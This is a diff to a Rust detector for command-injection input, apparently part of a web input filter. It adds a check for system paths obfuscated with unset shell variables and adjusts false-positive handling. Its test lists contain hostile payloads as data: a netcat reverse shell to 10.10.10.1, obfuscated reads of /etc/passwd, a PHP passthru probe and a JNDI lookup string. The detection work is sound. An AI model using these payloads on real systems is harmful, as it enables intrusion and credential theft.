@@ -343,9 +343,7 @@ impl Rce {
                 && next.as_bytes()[1] == b':';
             let argish = drive
                 || option(next)
-                || next.starts_with([
-                    '-', '/', '$', '<', '>', '|', ';', '`', '\'', '"', '.', '~', '%',
-                ])
+                || next.starts_with(['/', '$', '<', '>', '|', ';', '`', '\'', '"', '.', '~', '%'])
                 || (network_probe(name) && host_name(next.trim_end()))
                 || (numeric_argument(next)
                     && matches!(
@@ -387,7 +385,13 @@ impl Rce {
             // `&id&`, `;id #`: the command, then another separator or a comment that cuts
             // off the rest of the host's command line.
             let cut = next.starts_with(['&', ';', '|']) || next.trim_end() == "#";
-            if (argish || cut) && (sep != "&" || cut || next.starts_with(['-', '/'])) {
+            // `mammal;cat;ears`: a program that does nothing without an argument (it waits
+            // on its input, or prints an empty line), glued between two separators, is a
+            // word in a list; `;id;` and `;ls;` print what a probe wants.
+            if next.starts_with(['&', ';', '|']) && needs_argument(name) {
+                continue;
+            }
+            if (argish || cut) && (sep != "&" || cut || option(next) || next.starts_with('/')) {
                 return Some(if next.is_empty() { 0.75 } else { 0.9 });
             }
         }
@@ -781,6 +785,47 @@ fn obfuscated_command(text: &str) -> Option<f32> {
     None
 }
 
+/// A system path spelled with unset variables between its pieces (`$u/bin$u/cat$u
+/// $u/etc$u/passwd$u`, `$aaa/bin$bbb/cat$ccc`): each `$name` expands to nothing, and the
+/// shell runs `/bin/cat /etc/passwd`. Three or more insertions in one word, and the word
+/// without them a system file or a program by path: `$HOME/bin/$TOOL` is a path a script
+/// builds, with its variables where path segments go.
+#[cold]
+fn unset_variables(text: &str) -> Option<f32> {
+    text.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '+'))
+        .filter(|t| t.len() <= 80 && t.contains('$') && t.contains('/'))
+        .take(8)
+        .any(|token| {
+            let mut cleaned = String::with_capacity(token.len());
+            let mut vars = 0;
+            let mut chars = token.char_indices().peekable();
+            while let Some((i, c)) = chars.next() {
+                // `$` is one byte: `i + 1` starts the next character.
+                let name = if c == '$' {
+                    token[i + 1..]
+                        .bytes()
+                        .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
+                        .count()
+                } else {
+                    0
+                };
+                if name > 0 && token.as_bytes()[i + 1].is_ascii_alphabetic() {
+                    vars += 1;
+                    for _ in 0..name {
+                        chars.next();
+                    }
+                } else {
+                    cleaned.push(c);
+                }
+            }
+            vars >= 3
+                && cleaned.starts_with('/')
+                && (SYSTEM_PATHS.contains(&cleaned)
+                    || Rce::command(&cleaned).is_some_and(|(_, by_path)| by_path))
+        })
+        .then_some(0.85)
+}
+
 /// A bash fork bomb: a function whose body runs itself piped into or beside itself in the
 /// background, then called (`:(){ :|:& };:`, `f(){ f & f; }; f`). Recursion through `|` or
 /// `&` has no use but exhausting the host.
@@ -999,10 +1044,41 @@ fn windows_for(text: &str) -> Option<f32> {
 /// Does `arg` start with an option: `-x`, `--long`, or a `+` mode or command (`chmod +x`,
 /// `vim +wq`)? A `+` before a number is arithmetic or a count (`+1`), not an option.
 fn option(arg: &str) -> bool {
-    arg.starts_with('-')
+    // A dash alone is a dash in a sentence (`LC & NC - Boys038-XL.jpg`), not an option.
+    arg.strip_prefix('-')
+        .is_some_and(|a| a.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '-'))
         || arg
             .strip_prefix('+')
             .is_some_and(|a| a.starts_with(|c: char| c.is_ascii_alphabetic()))
+}
+
+/// Programs that do nothing a probe can see without an argument: they read their input,
+/// print an empty line, or fail with a usage message.
+fn needs_argument(name: &str) -> bool {
+    matches!(
+        name,
+        "cat"
+            | "more"
+            | "less"
+            | "head"
+            | "tail"
+            | "echo"
+            | "sleep"
+            | "ping"
+            | "curl"
+            | "wget"
+            | "rm"
+            | "cp"
+            | "mv"
+            | "touch"
+            | "chmod"
+            | "chown"
+            | "grep"
+            | "sort"
+            | "tee"
+            | "kill"
+            | "mail"
+    )
 }
 
 /// A number as the command's last argument, or before more shell (`; sleep 5`, `| ping
@@ -1363,7 +1439,10 @@ fn markdown_span(text: &str, at: usize, rest: &str) -> bool {
     // 401 ``) is an instruction to a reader or a report; payloads carry no sentence around
     // their span. What a sentence cannot excuse: system files, and the shells of
     // `risky_shell` (a download piped into `sh`).
-    let in_sentence = crate::xss::prose_words(text) >= 2;
+    // Words glued to the span by brackets (`${passthru(print(`…`))`) are code around it:
+    // a sentence has a space outside the span.
+    let spaced = text[..at].contains(char::is_whitespace) || tail.contains(char::is_whitespace);
+    let in_sentence = spaced && crate::xss::prose_words(text) >= 2;
     // A span that opens with `#` is a comment to a shell, to the end of its line: a
     // shebang shown in a sentence (`` supports `#!/usr/bin/env <program>` where … ``).
     let comment = span.trim_start().starts_with('#') && !span.contains(['\n', '\r']);
@@ -1616,7 +1695,12 @@ impl Detector for Rce {
             || (c.any(bc::SQUOTE) && text.bytes().filter(|&b| b == b'\'').count() >= 2)
             || text.contains('^');
         if noop_bytes && !in_path {
-            if let Some(conf) = obfuscated_command(text) {
+            let unset = || {
+                (c.any(bc::DOLLAR) && c.any(bc::SLASH))
+                    .then(|| unset_variables(text))
+                    .flatten()
+            };
+            if let Some(conf) = obfuscated_command(text).or_else(unset) {
                 emit(conf, "command obfuscated with quotes or escapes");
                 return;
             }
@@ -1754,6 +1838,10 @@ mod tests {
             // A SQLite dot-command whose line break arrives as a literal `\n`.
             r";\n.system nc 10.10.10.1 6666 -e sh\n",
             r#"";\n. shell nc 10.10.10.1 6666 -e sh"#,
+            // Unset variables between a path's pieces; PHP's `${…}` around a substitution.
+            "$u/bin$u/cat$u $u/etc$u/passwd$u",
+            "$aaaaaa/bin$bbbbbb/cat$ccccccc $dddddd/etc$eeeeeee/passwd$fffffff",
+            "${passthru(print(`echo ASBMQM;echo $((65+46));echo ASBMQM`);#ASBMQM",
         ] {
             assert!(hit(s), "missed: {s}");
         }
@@ -1786,6 +1874,17 @@ mod tests {
             "cat lovers unite",
             "find the best route",
             "sleep 8 hours; exercise daily",
+            // mgm's false positives: a dash in a name, a list of words.
+            "LC & NC - Boys038-XL.jpg",
+            "mammal;cat;ears",
+            // Variables where a script builds a path's segments.
+            "$DESTDIR$PREFIX/bin/$NAME",
+            "cp $SRC/bin/tool $HOME/bin/",
+            // Multibyte letters beside `$` and `/` (a panic once).
+            "${${lower:jnd}${lower:${upper:ı}}:ldap/x}",
+            "ı$ı/ı$a/é$b/ü",
+            // A span in a sentence, spaces around it.
+            "Run `make clean; make` from the root",
             // Flags alone are documentation, logged but not blocked (confidence below 0.7).
             "ls -la",
         ] {
